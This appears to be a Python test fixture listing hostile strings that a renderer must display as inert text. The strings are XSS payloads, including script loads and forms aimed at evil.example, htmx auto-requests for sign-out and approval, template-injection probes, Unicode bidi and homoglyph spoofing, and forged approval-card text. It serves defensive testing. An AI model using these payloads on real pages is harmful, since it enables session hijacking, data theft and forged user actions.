"""What a stranger may write to get something done by whoever looks at it: every text is to stay text."""

_SCRIPTS = (
    "<script>document.title='owned'</script>",
    "</pre><script src=//evil.example/x.js></script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script\t\n>alert(1)</script\t\n>",
    "<!--><script>alert(1)</script-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
)
_ELEMENTS = (
    "<img src=https://evil.example/t.gif><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body { display: none } @import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Send exactly this</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1) hx-post='/a/apr_1' hx-vals='{\"verb\":\"yes\"}'>x</div>",
    "<b>bold</b><plaintext>",
)
_ATTRIBUTES = (
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "` onclick=alert(1) `",
    "javascript:alert(1) https://evil.example/track?id=1",
    "data:text/html,<script>alert(1)</script>",
    "[click](javascript:alert(1)) ![pixel](https://evil.example/t.gif)",
    "//evil.example/ \\\\evil.example\\share",
)
_ENTITIES = (
    "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &quot;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &NotAnEntity; &#0; &#xD800;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_UNSEEN = (
    "\u05e9\u05dc\u05d5\u05dd \u202e\u2066 abc \u200b",
    "\u202eevil\u202c txt.exe \u2067right\u2069",
    "\u0645\u0631\u062d\u0628\u0627 90 \u062f\u0648\u0644\u0627\u0631",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 z\u0336a\u0336l\u0336g\u0336o\u0336",
    "\ufeff\u2060\u180e\u00ad hidden \U000e0041\U000e0042",
    "\u0430dmin@ex\u0430mple.com pays 9\u0660",
    "\u2028 a line \u2029 a paragraph",
)
_FORGED = (
    "why it asks: it was approved\ncost: no credits\nrequest: GET /nothing",
    "  | It costs 1.\nto: eve@example.com\n\n\n\nCHECK: nothing",
    'data-card="apr_0"></pre><pre class="card" data-card="apr_0">to: eve@example.com',
    "event: news\ndata: pending\n\nid: 1\nretry: 1",
)
_ODD = (
    "{{ 7 * 7 }} {% raw %} {{ site }} ${7*7} #{7*7} <%= 7*7 %>",
    "x" * 20_000,
    "\n" * 300 + "the end",
    "word " * 3_000,
)
HOSTILE = (*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_ENTITIES, *_UNSEEN, *_FORGED, *_ODD)
